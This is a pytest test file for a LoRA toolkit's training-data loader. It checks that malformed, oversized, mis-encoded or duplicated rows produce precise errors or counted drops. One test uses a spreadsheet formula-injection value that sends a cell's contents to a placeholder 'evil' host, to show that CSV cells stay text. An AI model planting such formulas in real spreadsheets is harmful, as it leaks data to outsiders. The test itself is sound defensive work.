"""Faults of data files: each ends in an error that names file, row and field, or in a counted, listed skip.

Encoding (B11, B12, B15-B19) is in test_b_encoding.py.
"""

import csv
import gzip
import io
import json
import os
import random
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lora_kit.cli.app import run
from lora_kit.data.overlap import SuiteText
from lora_kit.data.prepare import PreparedData, prepare_data
from lora_kit.data.sources import refuse_changed
from lora_kit.data.types import Conversation, Example
from lora_kit.errors import DataError, Problem
from lora_kit.recipe.schema import DataSpec

GOOD = {"instruction": "q", "input": "", "output": "a"}
Prepare = Callable[..., PreparedData]


class CharacterEncoder:
    """One token per character, so that whatever was lost or changed on the way shows."""

    fingerprint = "c" * 64

    def try_encode_many(self, conversations: list[Conversation]) -> list[Example | Problem]:
        return [self.encode(conversation) for conversation in conversations]

    def encode(self, conversation: Conversation) -> Example:
        ids: list[int] = []
        trained: list[bool] = []
        for message in conversation.messages:
            text = message.context + message.content
            ids += [ord(character) for character in text]
            trained += [message.role == "assistant" and message.train] * len(text)
        return Example(tuple(ids), tuple(trained), conversation.origin, "")


@pytest.fixture
def prepare(tmp_path: Path) -> Prepare:
    """``prepare(bytes or rows, **keys of data)``; the file is rows.jsonl unless `name` says otherwise."""

    def run(content: bytes | list[Any], *, name: str = "rows.jsonl", **keys: Any) -> PreparedData:
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else lines(content))
        spec = {
            "train": str(path),
            "format": "alpaca",
            "validation_fraction": 0.0,
            "max_tokens": 10**7,
        } | keys
        return prepare_data(DataSpec(**spec), CharacterEncoder())

    return run


def lines(rows: list[Any]) -> bytes:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode(
        "utf-8", "surrogatepass"
    )


def problems(caught: pytest.ExceptionInfo[DataError]) -> list[str]:
    text = str(caught.value).splitlines()
    assert caught.value.exit_code == 3
    assert all(len(line) <= 300 and "Traceback" not in line for line in text)
    return text


@pytest.mark.parametrize(
    ("format_name", "row", "field"),
    [
        ("alpaca", {"instruction": "q"}, "output"),
        ("alpaca", {"output": "a"}, "instruction"),
        ("dolly", {"instruction": "q", "output": "a"}, "response"),
        ("dolly", {}, "instruction"),
        ("messages", {"conversations": []}, "messages"),
        ("messages", {"messages": [{"role": "user"}]}, "messages[0].content"),
    ],
)
def test_b1_missing_field(format_name: str, row: dict, field: str, prepare: Prepare) -> None:
    good = {
        "messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}],
        "response": "a",
    } | GOOD
    with pytest.raises(DataError) as caught:
        prepare([good] * 16 + [row], format=format_name)
    assert problems(caught)[0].startswith(
        f"rows.jsonl:17: {field}: missing field '{field.rpartition('.')[2]}'"
    )


@pytest.mark.parametrize("value", [5, 1.5, True, None, ["a"], {"a": "b"}])
@pytest.mark.parametrize("field", ["instruction", "input", "output"])
def test_b2_wrong_type(field: str, value: object, prepare: Prepare) -> None:
    rows = [GOOD, GOOD | {field: value}]
    if field == "input" and value is None:
        assert prepare(rows).report.to_json()["rows_used"] == 2
        return
    with pytest.raises(DataError) as caught:
        prepare(rows)
    assert problems(caught)[0].startswith(f"rows.jsonl:2: {field}: must be text, found ")


def test_b3_a_column_of_dates_stays_text(prepare: Prepare) -> None:
    data = prepare([GOOD | {"output": "2024-01-01"}] * 5)
    assert {bytes(example.input_ids) for example in data.train} == {b"q2024-01-01"}


@pytest.mark.parametrize("answer", ["", " \n\t", "\u200b\u200d", "\ufeff", "\u00a0 \u2060"])
@pytest.mark.parametrize("name", ["rows.jsonl", "rows.json"])
def test_b4_empty_answer(answer: str, name: str, prepare: Prepare) -> None:
    rows = [GOOD, GOOD | {"output": answer}]
    content = lines(rows) if name == "rows.jsonl" else json.dumps(rows).encode()
    with pytest.raises(DataError) as caught:
        prepare(content, name=name)
    assert problems(caught) == [f"{name}:2: output: empty answer; write one, or set data.on_empty=drop"]
    report = prepare(content, name=name, on_empty="drop").report.to_json()
    assert report["dropped"] == {"empty_answer": {"count": 1, "rows": [f"{name}:2"]}}


def test_b5_not_utf8(prepare: Prepare) -> None:
    with pytest.raises(DataError) as caught:
        prepare(lines([GOOD]) + b'{"instruction": "caf\xe9", "output": "a"}\n')
    assert problems(caught) == ["rows.jsonl:2: byte 0xe9 at column 21 is not UTF-8; save the file as UTF-8"]


@pytest.mark.parametrize(
    "dress",
    [
        lambda clean: b"\xef\xbb\xbf" + clean,
        lambda clean: clean.replace(b"\n", b"\r\n"),
        lambda clean: b"\n\n" + clean.replace(b"\n", b"\n \t\n\r\n"),
        lambda clean: clean.rstrip(b"\n"),
        lambda clean: b"\xef\xbb\xbf[" + clean.rstrip(b"\n").replace(b"\n", b",\r\n") + b"]\n\n",
    ],
    ids=["BOM", "CRLF", "blank lines", "no final newline", "as a list"],
)
def test_b6_dress_of_the_file_does_not_matter(dress: Callable[[bytes], bytes], prepare: Prepare) -> None:
    clean = lines([GOOD | {"output": f"line 1\nline {n}\r\n\u2028é"} for n in range(5)])
    assert prepare(dress(clean)).fingerprint == prepare(clean).fingerprint


@pytest.mark.parametrize(
    ("content", "look"),
    [
        (lines([GOOD, GOOD])[:-9], "rows.jsonl:2: not JSON: unterminated string"),
        (b"<!DOCTYPE html><html><body>404", "this is a web page, not the data"),
        (
            b"version https://git-lfs.github.com/spec/v1\n",
            "this is a Git LFS pointer, not the data; run `git lfs pull`",
        ),
        (b"PK\x03\x04", "this is a zip archive"),
        (b"\x1f\x8b\x08", "this is a gzip file"),
        (b"PAR1", "this is a Parquet file"),
        (b"", "the file is empty"),
        (b"\n \n", "the file is empty"),
    ],
)
def test_b7_what_the_file_is(content: bytes, look: str, prepare: Prepare) -> None:
    with pytest.raises(DataError) as caught:
        prepare(content)
    assert look in problems(caught)[0]


def test_b7_a_pipe_never_blocks(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "rows.jsonl")
    with pytest.raises(DataError, match="this is a pipe"):
        prepare_data(DataSpec(train=str(tmp_path / "rows.jsonl"), format="alpaca"), CharacterEncoder())


@pytest.mark.parametrize(
    ("line", "found"),
    [
        (b'{"instruction": "q", "output": NaN}', "NaN is not JSON"),
        (b'{"instruction": "q", "output": "a", "x": [Infinity]}', "Infinity is not JSON"),
        (b'{"instruction": "q", "output": "a", "output": "b"}', "key 'output' appears twice in one object"),
        (b'{"instruction": "q", "output": "\\ud800"}', "half of a surrogate pair"),
        (b'{"instruction": "\\ud83d", "output": "\\ude00"}', "half of a surrogate pair"),
    ],
)
def test_b8_what_json_readers_let_through(line: bytes, found: str, prepare: Prepare) -> None:
    with pytest.raises(DataError) as caught:
        prepare(lines([GOOD]) + line)
    assert problems(caught)[0].startswith(f"rows.jsonl:2: {found}")


def test_b8_whole_surrogate_pairs_and_nul_are_text(prepare: Prepare) -> None:
    data = prepare(b'{"instruction": "\\ud83d\\ude00", "output": "a\\u0000b \\\\ud800"}')
    assert data.train[0].input_ids == tuple(map(ord, "\U0001f600a\0b \\ud800"))
    assert data.report.to_json()["nul_characters"] == {"count": 1, "rows": ["rows.jsonl:1"]}


READ_WITH_LITTLE_MEMORY = """
import resource, sys
from pathlib import Path
from lora_kit.data.sources import read_rows
from lora_kit.errors import DataError
in_use = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (in_use + 2**25, in_use + 2**25))
try:
    list(read_rows(Path(sys.argv[1]), on_problem=print))
except DataError as error:
    print(error)
"""


@pytest.mark.parametrize(
    ("make", "found"),
    [
        (lambda: b'{"instruction": "' + b"x" * 60_000_000 + b'"}', "a row of more than 1,048,576 bytes"),
        (
            lambda: b'{"messages": [' + b",".join([b'{"role":"user","content":"a"}'] * 1_000_000) + b"]}",
            "a row of more than",
        ),
        (
            lambda: b'{"instruction": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
            "nested more than 64 levels deep",
        ),
        (lambda: b"[" + b'{"instruction": "' + b"x" * 60_000_000, "a row of more than"),
        (lambda: b"[" * 60_000_000, "an element must be an object"),
    ],
    ids=["60 MB row", "a million turns", "deep row", "60 MB element", "deep list"],
)
def test_b9_giants_are_refused_in_flat_memory(make: Callable[[], bytes], found: str, tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    path.write_bytes(make())
    command = [sys.executable, "-c", READ_WITH_LITTLE_MEMORY, str(path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("rows.jsonl:1: ")
    assert found in done.stdout


def test_b10_duplicates_are_counted_and_kept(prepare: Prepare) -> None:
    report = prepare([GOOD, GOOD | {"output": "b"}, GOOD, GOOD]).report.to_json()
    assert report["duplicates"] == {"count": 2, "rows": ["rows.jsonl:3", "rows.jsonl:4"]}
    assert report["rows_used"] == 4


def test_b10_a_training_row_in_the_validation_file(prepare: Prepare, tmp_path: Path) -> None:
    held = tmp_path / "held.jsonl"
    held.write_bytes(lines([GOOD | {"instruction": " Q\n"}]))
    rows = [GOOD | {"output": "b"}, GOOD]
    report = prepare(rows, validation=str(held)).report.to_json()
    assert report["dropped"] == {"overlap_with_validation": {"count": 1, "rows": ["rows.jsonl:2"]}}
    with pytest.raises(DataError) as caught:
        prepare(rows, validation=str(held), on_overlap="error")
    assert problems(caught)[0].startswith("rows.jsonl:2: this row is also a validation row (held.jsonl:1)")


LONG = "Low-rank updates of frozen weights need little memory and keep the base model as it is, word for word"


def test_b10_a_row_nearly_in_the_validation_file(prepare: Prepare, tmp_path: Path) -> None:
    held = tmp_path / "held.jsonl"
    held.write_bytes(lines([GOOD | {"output": f"{LONG}."}]))
    rows = [GOOD, GOOD | {"output": f"{LONG.upper()} indeed"}]
    report = prepare(rows, validation=str(held)).report.to_json()
    assert report["dropped"] == {"near_validation": {"count": 1, "rows": ["rows.jsonl:2"]}}
    with pytest.raises(DataError) as caught:
        prepare(rows, validation=str(held), on_overlap="error")
    assert problems(caught)[0].startswith("rows.jsonl:2: this row is nearly a validation row (held.jsonl:1)")


def test_b10_near_duplicates_never_straddle_the_split(prepare: Prepare) -> None:
    texts = [" ".join(f"word{n}x{k}" for k in range(20)) for n in range(30)]
    rows = [GOOD | {"output": f"{text} {m}"} for text in texts for m in range(3)]
    data = prepare(rows, validation_fraction=0.3)
    sides = [
        {bytes(example.input_ids).partition(b"x")[0] for example in side}
        for side in (data.train, data.validation)
    ]
    assert sides[0]
    assert sides[1]
    assert not sides[0] & sides[1]
    split = data.report.to_json()["split"]
    assert split["random_split"]["leaked_examples"] > 0.8 * split["random_split"]["validation_examples"]


def test_b10_a_training_row_with_a_prompt_of_a_suite_is_told(tmp_path: Path) -> None:
    (tmp_path / "rows.jsonl").write_bytes(lines([GOOD, GOOD | {"instruction": f"Comment on this: {LONG}!"}]))
    spec = DataSpec(train=str(tmp_path / "rows.jsonl"), format="alpaca", validation_fraction=0.0)
    suites = [SuiteText("mine", "item 4", LONG, "unseen")]
    report = prepare_data(spec, CharacterEncoder(), suites=suites).report.to_json()
    assert report["suite_overlap"]["mine"]["prompt"] == {"exact": 1, "probable": 0, "possible": 0}
    found = {"id": "item 4", "part": "prompt", "level": "exact", "share": 1.0, "rows": ["rows.jsonl:2"]}
    assert report["suite_overlap"]["mine"]["found"] == [found]


def test_b23_changed_rows_are_named_by_their_file(prepare: Prepare, tmp_path: Path) -> None:
    held = tmp_path / "held.jsonl"
    held.write_bytes(lines([GOOD | {"output": "held"}]))
    begun = prepare([GOOD], validation=str(held))
    before = begun.report.to_json()
    refuse_changed(before, prepare([GOOD], validation=str(held)).report.to_json())
    refuse_changed({}, before)
    changed = prepare([GOOD | {"output": "b"}], validation=str(held))
    assert changed.fingerprint != begun.fingerprint
    with pytest.raises(DataError) as caught:
        refuse_changed(before, changed.report.to_json())
    cure = "put the old rows back, or start a new run with another --run-dir"
    assert problems(caught) == [f"rows.jsonl: has changed since the run began; {cure}"]
    with pytest.raises(DataError, match=r"held\.jsonl: has changed"):
        refuse_changed(prepare([GOOD]).report.to_json(), begun.report.to_json())


@pytest.mark.parametrize("share", [0.1, 0.3, 0.5])
def test_b10_duplicates_never_straddle_the_split(share: float, prepare: Prepare) -> None:
    rows = [GOOD | {"instruction": f"{word} {n // 2}"} for n in range(60) for word in ("What", "what ")]
    data = prepare(rows, validation_fraction=share)
    sides = [
        {bytes(example.input_ids).lower().replace(b" a", b"a") for example in side}
        for side in (data.train, data.validation)
    ]
    assert not sides[0] & sides[1]
    assert sides[1]


def test_b13_overlong_rows_follow_the_policy(prepare: Prepare) -> None:
    rows = [GOOD, {"instruction": "q" * 50, "output": "a" * 5}, {"instruction": "q", "output": "a" * 50}]
    with pytest.raises(DataError) as caught:
        prepare(rows, max_tokens=20)
    assert [line.split(";")[0] for line in problems(caught)] == [
        "rows.jsonl:2: 55 tokens, more than data.max_tokens 20",
        "rows.jsonl:3: 51 tokens, more than data.max_tokens 20",
    ]
    dropped = prepare(rows, max_tokens=20, overlong="drop").report.to_json()["dropped"]
    assert dropped == {"overlong": {"count": 2, "rows": ["rows.jsonl:2", "rows.jsonl:3"]}}
    data = prepare(rows, max_tokens=20, overlong="truncate_prompt")
    assert bytes(data.train[1].input_ids) == b"q" * 15 + b"a" * 5
    report = data.report.to_json()
    assert report["truncated"] == {"count": 1, "rows": ["rows.jsonl:2"]}
    assert report["dropped"] == {"overlong": {"count": 1, "rows": ["rows.jsonl:3"]}}


def test_b14_a_row_without_trained_tokens(prepare: Prepare) -> None:
    silent = [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a", "train": False}]
    with pytest.raises(DataError) as caught:
        prepare([{"messages": silent}], format="messages")
    assert problems(caught) == ["rows.jsonl:1: no token of this row is trained"]


def turns(*roles: str) -> dict[str, Any]:
    return {"messages": [{"role": role, "content": "x"} for role in roles]}


@pytest.mark.parametrize(
    ("row", "where"),
    [
        (turns("assistant", "user"), "messages[0]: turn is from assistant, expected user"),
        (turns("user", "user", "assistant"), "messages[1]: turn is from user, expected assistant"),
        (turns("user", "assistant", "assistant"), "messages[2]: turn is from assistant, expected user"),
        (turns("user", "system", "assistant"), "messages[1]: system message in the middle"),
        (turns("system", "system", "user", "assistant"), "messages[1]: system message in the middle"),
        (turns("user", "assistant", "user"), "messages[2]: the last turn is from user"),
        (turns("system"), "messages[0]: the last turn is from system"),
        ({"messages": []}, "messages: an empty conversation"),
        ({"messages": {"role": "user"}}, "messages: must be a list, found an object"),
        (turns("user", "asistant"), "messages[1].role: unknown role 'asistant'; did you mean 'assistant'?"),
        (turns("user", "tool"), "messages[1].role: unknown role 'tool'; known: system, user, assistant"),
        ({"messages": [{"role": 1, "content": "x"}]}, "messages[0].role: must be a role, found a number"),
        ({"messages": ["hello"]}, "messages[0]: must be an object, found text"),
        (
            {"messages": [{"from": "human", "value": "x"}]},
            "messages[0].role: missing field 'role'; this looks like ShareGPT",
        ),
        (
            {"messages": [{"role": "user", "content": [{"type": "image_url"}]}]},
            "messages[0].content[0]: only text parts",
        ),
        (
            {"messages": [{"role": "user", "content": None}]},
            "messages[0].content: must be text or a list of parts",
        ),
        (
            {"messages": [{"role": "user", "content": "x", "train": "no"}]},
            "messages[0].train: must be true or false",
        ),
        (
            {"messages": [{"role": "user", "content": "x", "tool_calls": [1]}]},
            "messages[0]: 'tool_calls' can't be learned",
        ),
    ],
)
def test_b20_turns_out_of_order(row: dict, where: str, prepare: Prepare) -> None:
    with pytest.raises(DataError) as caught:
        prepare([turns("user", "assistant"), row], format="messages")
    assert problems(caught)[0].startswith(f"rows.jsonl:2: {where}")


@pytest.mark.parametrize(
    ("format_name", "row", "where"),
    [
        (
            "sharegpt",
            {"conversations": [{"from": "human", "value": "q"}, {"role": "assistant", "content": "a"}]},
            "conversations[1].from: missing field 'from'; this looks like OpenAI's messages",
        ),
        (
            "messages",
            {"messages": [{"role": "user", "content": "q"}, {"from": "gpt", "value": "a"}]},
            "messages[1].role: missing field 'role'; this looks like ShareGPT",
        ),
        (
            "openassistant",
            {
                "message_tree_id": "t",
                "prompt": {
                    "role": "prompter",
                    "text": "q",
                    "message_id": "1",
                    "replies": [{"role": "assistant", "text": "a", "parent_id": "2"}],
                },
            },
            "prompt.replies[0]: parent_id is '2', but it stands below '1'",
        ),
    ],
)
def test_b21_mixed_formats_and_misplaced_messages(
    format_name: str, row: dict, where: str, prepare: Prepare
) -> None:
    with pytest.raises(DataError) as caught:
        prepare([row], format=format_name)
    assert problems(caught)[0].startswith(f"rows.jsonl:1: {where}")


def test_b21_deleted_orphaned_and_circular_messages(prepare: Prepare) -> None:
    def said(name: str, parent: str | None, **more: Any) -> dict[str, Any]:
        role = "prompter" if name[0] == "q" else "assistant"
        return {
            "message_tree_id": "t",
            "message_id": name,
            "parent_id": parent,
            "role": role,
            "text": name,
        } | more

    tree = [said("q", None), said("a", "q"), said("a2", "q", deleted=True), said("a3", "gone")]
    report = prepare(tree, format="openassistant").report.to_json()
    assert (report["rows_read"], report["conversations"]) == (1, 1)
    assert (report["counts"]["deleted"], report["counts"]["orphans"]) == (1, 1)
    with pytest.raises(DataError) as caught:
        prepare([*tree, said("q4", "a4"), said("a4", "q4")], format="openassistant")
    assert problems(caught) == ["rows.jsonl:5: parent_id: its parents lead back to itself"]


def test_b22_nothing_left_tells_why(prepare: Prepare) -> None:
    rows = [GOOD | {"output": ""}] * 3 + [GOOD | {"output": "a" * 99}]
    with pytest.raises(DataError) as caught:
        prepare(rows, on_empty="drop", overlong="drop", max_tokens=20)
    expected = "no rows are left for train: 4 read, 4 dropped (empty_answer 3, overlong 1)"
    assert problems(caught)[0].endswith(f"rows.jsonl: {expected}")


def test_b22_all_rows_held_out_or_no_validation_row_left(prepare: Prepare, tmp_path: Path) -> None:
    held = tmp_path / "held.jsonl"
    held.write_bytes(lines([GOOD | {"output": ""}]))
    with pytest.raises(DataError, match="no rows are left for validation: 2 read, 1 dropped"):
        prepare([GOOD], validation=str(held), on_empty="drop")
    held.write_bytes(lines([GOOD]))
    with pytest.raises(
        DataError, match=r"no rows are left for train: 2 read, 1 dropped .*, 1 held out for validation"
    ):
        prepare([GOOD], validation=str(held))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    question=st.text(min_size=1),
    answer=st.text(min_size=1),
    ascii_only=st.booleans(),
    name=st.sampled_from(["a.jsonl", "a.json"]),
)
@pytest.mark.parametrize(
    "extra",
    ["", "e\u0301\u0327", "\u00e9", "\u202eabc", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0301"],
)
def test_b24_text_comes_through_to_the_character(
    prepare: Prepare, *, extra: str, question: str, answer: str, ascii_only: bool, name: str
) -> None:
    row = {"instruction": question, "output": f"!{answer}{extra}"}
    content = json.dumps([row] if name == "a.json" else row, ensure_ascii=ascii_only).encode()
    (example,) = prepare(content, name=name).train
    assert "".join(map(chr, example.input_ids)) == f"{question}!{answer}{extra}"


FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def test_b25_cells_are_text_in_csv_and_parquet(prepare: Prepare, tmp_path: Path) -> None:
    rows = [
        {"instruction": FORMULA, "output": 'two\r\nlines, "quoted"'},
        {"instruction": "@SUM(1)", "output": "1e5"},
    ]
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, ["instruction", "output"])
    writer.writeheader()
    writer.writerows(rows)
    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "written.parquet")
    contents = {
        "rows.csv": text.getvalue().encode(),
        "rows.csv.gz": gzip.compress(text.getvalue().encode()),
        "rows.parquet": (tmp_path / "written.parquet").read_bytes(),
    }
    expected = prepare(rows).fingerprint
    assert {
        name: prepare(content, name=name).fingerprint for name, content in contents.items()
    } == dict.fromkeys(contents, expected)


def test_b25_a_huge_dictionary_of_a_small_file_is_refused_or_read_in_bounds(
    prepare: Prepare, tmp_path: Path
) -> None:
    cell = "x" * (1 << 21)
    table = pa.table({"instruction": ["q"] * 50, "output": pa.array([cell] * 50).dictionary_encode()})
    pq.write_table(table, tmp_path / "written.parquet", compression="zstd")
    assert (tmp_path / "written.parquet").stat().st_size < 1 << 20
    with pytest.raises(DataError) as caught:
        prepare((tmp_path / "written.parquet").read_bytes(), name="rows.parquet")
    assert problems(caught)[0].startswith("rows.parquet:1: a row of more than")


def test_b25_a_quote_that_is_never_closed_ends_at_the_row_cap(prepare: Prepare) -> None:
    text = 'instruction,output\nq,"' + "a line\n" * 300_000
    with pytest.raises(DataError) as caught:
        prepare(text.encode(), name="rows.csv")
    assert problems(caught)[0].startswith("rows.csv:2: not CSV: field larger than")


def test_b25_types_of_parquet_are_never_turned_into_text(prepare: Prepare, tmp_path: Path) -> None:
    table = pa.table({"instruction": ["q", "q"], "output": [datetime(2024, 1, 1, tzinfo=UTC)] * 2})
    pq.write_table(table, tmp_path / "written.parquet")
    with pytest.raises(DataError) as caught:
        prepare((tmp_path / "written.parquet").read_bytes(), name="rows.parquet")
    assert problems(caught)[0] == "rows.parquet:1: output: must be text, found datetime"


def mutated(data: bytes, chance: random.Random) -> bytes:
    """Damage a file as editors, networks and people do."""
    raw = bytearray(data)
    for _ in range(chance.choice([1, 1, 2, 5, 20])):
        at = chance.randrange(len(raw) + 1)
        length = chance.choice([0, 1, 1, 4, 40])
        bits = [
            b"",
            b"\x00",
            b"\xff",
            b'"',
            b"{",
            b"}",
            b"[",
            b"]",
            b",",
            b"\\",
            b"\\ud800",
            b"null",
            b"NaN",
            b"\n",
            b"1e999",
        ]
        raw[at : at + length] = chance.choice([*bits, chance.randbytes(3), bytes(raw[at : at + 30]) * 2])
    return bytes(raw[: chance.randrange(len(raw) + 1)]) if chance.random() < 0.2 else bytes(raw)


def seeds() -> list[tuple[str, str, bytes]]:
    """Small good files: format, name, content."""
    rows: dict[str, list[dict[str, Any]]] = {
        "alpaca": [GOOD] * 4,
        "dolly": [{"instruction": "é\n", "context": "c", "response": "r", "category": "qa"}] * 4,
        "messages": [turns("user", "assistant"), turns("system", "user", "assistant", "user", "assistant")]
        * 2,
        "sharegpt": [{"conversations": [{"from": "human", "value": "q"}, {"from": "gpt", "value": "a"}]}] * 3,
        "openassistant": [
            {"message_tree_id": "t", "message_id": "1", "parent_id": None, "role": "prompter", "text": "q"},
            {
                "message_tree_id": "t",
                "message_id": "2",
                "parent_id": "1",
                "role": "assistant",
                "text": "a",
                "rank": 0,
            },
            {"message_tree_id": "u", "prompt": {"role": "prompter", "text": "q", "replies": []}},
        ],
        "code": [{"instruction": "q", "code": "x = 1", "language": "python"}] * 3,
        "auto": [{"prompt": "q", "completion": "a"}] * 3,
    }
    table = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows["alpaca"]), table, compression="none")
    files = [(name, "rows.jsonl", lines(some)) for name, some in rows.items()]
    files += [
        (name, "rows.json", json.dumps(some, ensure_ascii=False).encode()) for name, some in rows.items()
    ]
    files.append(("alpaca", "rows.csv", b'instruction,input,output\nq,,"a, b"\nq,"c\nd",e\n'))
    files += [
        ("alpaca", "rows.parquet", table.getvalue()),
        ("alpaca", "rows.jsonl.gz", gzip.compress(lines([GOOD] * 4))),
    ]
    return files


@pytest.mark.parametrize("batch", range(50))
def test_damaged_files_give_data_errors_and_nothing_else(batch: int, prepare: Prepare) -> None:
    chance = random.Random(batch)
    files = seeds()
    for number in range(40):
        format_name, name, clean = files[number % len(files)]
        policy = chance.choice(["error", "drop"])
        try:
            data = prepare(
                mutated(clean, chance), name=name, format=format_name, on_empty="drop", on_bad_row=policy
            )
        except DataError as error:
            text = str(error).splitlines()
            assert text
            assert all(name in line or line.startswith("... and") for line in text)
        else:
            report = data.report.to_json()
            dropped = sum(entry["count"] for entry in report["dropped"].values())
            assert report["rows_read"] == report["rows_used"] + dropped


def test_a_run_does_not_go_on_with_other_rows(
    tiny_recipe: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe = tiny_recipe(train={"steps": 2, "save_every": 1})
    command = ["train", str(recipe), "--run-dir", str(recipe.parent / "run")]
    with monkeypatch.context() as broken:
        broken.setenv("LORA_KIT_FAILPOINT", "directory.before_manifest=enospc")
        assert run(command) == 5
    rows = recipe.parent / "rows.jsonl"
    whole = rows.read_text("utf-8")
    rows.write_text(whole.replace("a", "b", 1), "utf-8")
    capsys.readouterr()
    assert run(command) == 3
    told = capsys.readouterr().err
    assert "rows.jsonl: has changed since the run began" in told
    assert "put the old rows back" in told
    rows.write_text(whole, "utf-8")
    assert run(command) == 0
